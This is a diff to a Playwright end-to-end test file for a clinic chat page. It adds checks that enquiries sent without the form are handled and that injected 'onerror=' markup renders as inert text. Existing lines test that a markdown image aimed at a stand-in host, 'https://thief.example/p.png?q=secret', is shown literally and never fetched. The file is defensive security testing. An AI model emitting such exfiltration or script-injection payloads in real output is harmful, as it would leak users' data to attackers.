@@ -1,6 +1,13 @@
 import type { FrameLocator, Page } from 'playwright-core';
 import { describe, expect, it } from 'vitest';
-import { answerWith, drawnFromMarkup, hostileAnswer, openOtherSite } from './chat-attacks.ts';
+import {
+  answerWith,
+  drawnFromMarkup,
+  enquiryWithoutForm,
+  hostileAnswer,
+  markupIn,
+  openOtherSite,
+} from './chat-attacks.ts';
 import { focusOf } from './hear-page.ts';
 import type { Installation } from './installation.ts';
 import { signIn } from './people.ts';
@@ -71,6 +78,8 @@ export function describeChat({ installation, visit }: ChatTestParts): void {
       await page.getByLabel('Your name').fill('Ines Enquirer');
       await page.getByRole('button', { name: 'Send to the clinic' }).click();
       await page.getByText('Somebody at the clinic will contact you').waitFor();
+      // Whoever writes past the form may leave what no page has room for.
+      expect(await page.evaluate(enquiryWithoutForm)).toBe(201);
 
       await signIn(
         page,
@@ -79,6 +88,8 @@ export function describeChat({ installation, visit }: ChatTestParts): void {
       );
       await page.getByRole('heading', { name: 'Ines Enquirer' }).waitFor();
       await page.getByText('01134960999').waitFor();
+      await page.getByText('onerror=').waitFor();
+      expect(await page.evaluate(markupIn('.read-text'))).toEqual([]);
       await look('console-enquiries');
       await page.getByRole('button', { name: /^Close.*Ines Enquirer$/ }).click();
       await page.getByText('Closed', { exact: true }).waitFor();
@@ -113,6 +124,11 @@ export function describeChat({ installation, visit }: ChatTestParts): void {
       expect(shown).toContain('![map](https://thief.example/p.png?q=secret)');
       expect(shown).toContain('before hidden end');
       expect(await page.title()).toBe('Chat with the clinic');
+      expect(
+        await page.evaluate(
+          `(({ scrollWidth, clientWidth }) => scrollWidth - clientWidth)(document.querySelector('.messages'))`,
+        ),
+      ).toBe(0);
       expect(asked.filter((url) => url.includes('thief.example'))).toEqual([]);
       // Nor is it when the page takes it up again.
       await page.reload();
